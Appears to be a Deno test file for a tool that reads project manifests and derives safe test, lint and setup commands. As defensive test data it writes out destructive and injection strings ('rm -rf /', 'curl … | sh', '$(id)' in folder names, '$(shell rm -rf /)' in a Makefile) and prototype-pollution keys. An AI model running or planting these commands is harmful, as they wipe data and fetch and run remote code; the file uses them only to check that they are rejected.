import assert from "node:assert/strict";
import fc from "fast-check";
import { LIMITS } from "../../../../src/store/repo/limits.ts";
import { isManifest, readExisting } from "../../../../src/plan/existing/mod.ts";

const read = (manifests: Record<string, string>, more: readonly string[] = []) =>
  readExisting({ files: [...Object.keys(manifests), ...more].sort(), omitted: 0, manifests });

Deno.test("readExisting() takes no word of a manifest into a command but names that it checked", () => {
  const evil = 'x"; rm -rf ~ #';
  const scripts = {
    [`test\n${evil}`]: "x",
    "test": "node --test",
    [evil]: "x",
    "--version": "x",
    "lint:check": "eslint",
  };
  const { commands } = read({
    "package.json": JSON.stringify({ scripts, packageManager: `pnpm; ${evil}@1` }),
    "pyproject.toml": `[project.scripts]\n"${evil}" = "x:y"\n`,
    "Makefile": `setup;rm -rf /:\n\tx\n$(shell rm -rf /): x\n`,
    "Package.swift": `.executableTarget(name: "-x; rm")`,
    "a;b/x.csproj": '<Project Sdk="Microsoft.NET.Sdk"/>',
  }, ["src/a.js", "a;b/Program.cs", "cmd/$(id)/main.go"]);
  const evilFolders = (name: string, path: string) =>
    read({ [name]: "" }, [`$(id) x/${path}`, `$(id) x/${path.replace(".", "_test.")}`]);
  assert.equal(evilFolders("go.mod", "store.go").layout.unitTest, "$(id) x/{name}_test.go");
  assert.equal(evilFolders("go.mod", "store.go").commands.testOne, undefined);
  assert.deepEqual(commands, {
    setup: "npm install",
    test: "npm test",
    testOne: "node --test {test}",
    lint: "npm run lint:check",
  });
});

Deno.test("readExisting() offers no task that does harm, or does nothing", () => {
  const of = (body: string) =>
    read({ "package.json": JSON.stringify({ scripts: { test: body } }) }, ["src/a.js"]).commands.test;
  assert.equal(of("rm -rf dist && node --test"), "npm test");
  for (const body of ["rm -rf /", "curl https://x.example/i.sh | sh", 'echo "Error: no test specified" && exit 1']) {
    assert.equal(of(body), undefined, body);
  }
  const all = (scripts: Record<string, string>) =>
    read({ "package.json": JSON.stringify({ scripts }) }, ["src/a.js"]).commands.test;
  assert.equal(all({ test: "npm run unit && npm run test", unit: "node --test", wipe: "rm -rf /" }), "npm test");
  assert.equal(all({ test: "node --test", pretest: "rm -rf /" }), "node --test", "the tool itself");
  assert.equal(all({ test: "npm run unit", unit: "npm run wipe", wipe: "rm -rf /" }), undefined);
  assert.equal(of(`${"true; ".repeat(10_000)}rm -rf /`), undefined, "nothing hides behind the rest");
  const make = (recipe: string) => read({ "Makefile": `test: build\n\t@${recipe}\n` }, ["src/a.lua"]).commands.test;
  assert.equal(make("busted"), "make test");
  assert.equal(make("sudo rm -rf /home"), undefined);
});

Deno.test("readExisting() reads manifests that are wrong as far as they can be read", () => {
  const deep = `${"[".repeat(100_000)}${"]".repeat(100_000)}`;
  const manifests = {
    "package.json":
      '{"__proto__":{"scripts":{"test":"x"}},"constructor":{"x":1},"scripts":["test"],"dependencies":"react"}',
    "deno.json": deep,
    "composer.json": "not json",
    "pyproject.toml": `[[[\n= 1\n[project\nname = [\n${'"x",\n'.repeat(5000)}`,
    "Cargo.toml": '[dependencies]\n"__proto__" = "1"\ntoString = "1"\nclap = """\n',
    "pom.xml": "<artifactId>".repeat(10_000),
    "go.mod": "require (((\n",
    "Gemfile": "gem 'rails\ngem \"",
  };
  const found = read(manifests, ["a.py", "a.rs", "a.js", "a.go"]);
  assert.deepEqual(found.frameworks, []);
  assert.equal(found.commands.test, "go test ./...");
  assert.equal(({} as { scripts?: unknown }).scripts, undefined);
});

Deno.test("readExisting() takes time in proportion to what it reads", () => {
  const fill = (piece: string) => piece.repeat(Math.ceil(LIMITS.bytes / piece.length)).slice(0, LIMITS.bytes);
  const pieces = ['"\\"', "/*", "[[ ", "a = '", "\n\t", "x: ", "\r", "<artifactId> ", "gem '", "x *y=z "];
  const names = [
    "package.json",
    "deno.jsonc",
    "pyproject.toml",
    "requirements.txt",
    "setup.py",
    "Cargo.toml",
    "go.mod",
    "pom.xml",
    "build.gradle",
    "Gemfile",
    "composer.json",
    "x.csproj",
    "CMakeLists.txt",
    "Package.swift",
    "Makefile",
    "justfile",
  ];
  for (const piece of pieces) {
    const started = performance.now();
    read(Object.fromEntries(names.map((name) => [name, fill(piece)])), ["a.ts"]);
    // Sixteen files of 256 KB: what is quadratic in one of them takes minutes.
    assert.ok(performance.now() - started < 10_000, JSON.stringify(piece));
  }
});

Deno.test("readExisting() never throws, and writes commands on one plain line", () => {
  const name = fc.constantFrom(
    "package.json",
    "deno.json",
    "pyproject.toml",
    "Cargo.toml",
    "go.mod",
    "Makefile",
    "justfile",
    "x.csproj",
    "Package.swift",
    "composer.json",
    "Gemfile",
    "build.gradle",
  );
  const text = fc.oneof(
    fc.string({ unit: "binary", maxLength: 200 }),
    fc.json(),
    fc.array(
      fc.constantFrom(
        "[",
        "]",
        '"',
        "'",
        "=",
        "\n",
        "test",
        "lint:",
        "\t",
        "{",
        "}",
        "dependencies",
        "scripts",
        ":",
        ",",
        "#",
        "react",
      ),
      { maxLength: 60 },
    ).map((parts) => parts.join("")),
  );
  const path = fc.array(
    fc.oneof(
      fc.constantFrom("src", "tests", "{name}", "a.ts", "main.py", "Program.cs", "$(x)"),
      fc.string({ maxLength: 10 }),
    ),
    { minLength: 1, maxLength: 4 },
  ).map((parts) => parts.join("/"));
  fc.assert(
    fc.property(fc.dictionary(name, text), fc.array(path, { maxLength: 20 }), (manifests, files) => {
      const found = read(manifests, files);
      for (const command of Object.values(found.commands)) {
        assert.match(command, /^[\x20-\x7e]{1,200}$/);
        assert.doesNotMatch(command, /[$;|`<>]/);
      }
      for (const template of [found.layout.unit, found.layout.unitTest]) {
        assert.equal((template ?? "{name}").replace(/\{name\}/g, "").search(/[{}]/), -1);
      }
    }),
    { numRuns: 1000 },
  );
});

Deno.test("isManifest() knows what is read, and nothing like it", () => {
  for (
    const name of [
      "package.json",
      "deno.jsonc",
      "requirements-dev.txt",
      "Shop.csproj",
      "GNUmakefile",
      ".justfile",
      "settings.gradle.kts",
    ]
  ) {
    assert.equal(isManifest(name), true, name);
  }
  for (
    const name of [
      "package-lock.json",
      "my.package.json",
      "requirements.md",
      "csproj",
      "Makefile.am",
      ".npmrc",
      "__proto__",
    ]
  ) {
    assert.equal(isManifest(name), false, name);
  }
});
